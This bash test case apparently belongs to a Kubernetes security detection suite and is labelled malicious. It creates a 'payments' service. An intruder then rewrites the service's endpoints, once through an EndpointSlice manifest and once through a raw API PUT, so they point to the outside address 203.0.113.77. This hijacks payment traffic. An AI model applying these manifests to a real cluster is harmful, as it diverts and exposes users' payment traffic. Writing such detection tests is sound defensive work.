# shellcheck shell=bash disable=SC2154
# what: the addresses behind a service are set by hand to another machine.
# label: malicious
# expects: [service-endpoints-written]
# allows: [cluster-resource-created, api-called-by-script]
prepare() { kubectl_as admin -n shop create service clusterip payments --tcp=443:8443; }
develop() {
    given <<'Y' | intruder apply -f -
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata: {name: payments-x, namespace: shop, labels: {kubernetes.io/service-name: payments}}
addressType: IPv4
ports: [{name: "443-8443", port: 8443}]
endpoints: [{addresses: [203.0.113.77]}]
Y
}
hold_out() { request PUT /api/v1/namespaces/shop/endpoints/payments '{"metadata":{"name":"payments"},"subsets":[{"addresses":[{"ip":"203.0.113.77"}],"ports":[{"port":8443}]}]}'; }
